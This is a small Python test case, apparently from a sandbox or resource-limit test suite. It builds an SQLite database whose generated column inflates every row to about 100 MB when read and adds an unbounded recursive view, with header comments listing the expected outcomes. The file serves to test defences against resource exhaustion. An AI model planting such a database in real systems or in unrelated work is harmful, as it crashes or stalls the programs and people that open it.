# shows: returned 'made' | timeout | out of memory | crash
# threat: memory
# limit: 1
# agrees: never
"""Leaves a database whose rows are made up when they are read, and huge."""

import sqlite3

from benign import SIDE


def attack(place):
    connection = sqlite3.connect("base.db")
    connection.execute("create table t (x, y generated always as (hex(zeroblob(50000000))))")
    connection.execute(
        "create view v as with recursive r(x) as (select 1 union all select x + 1 from r) "
        "select x from r"
    )
    connection.executemany("insert into t (x) values (?)", ((number,) for number in range(400)))
    connection.execute("insert into t (x) values (?)", (SIDE,))
    connection.commit()
    connection.close()
    return "made"
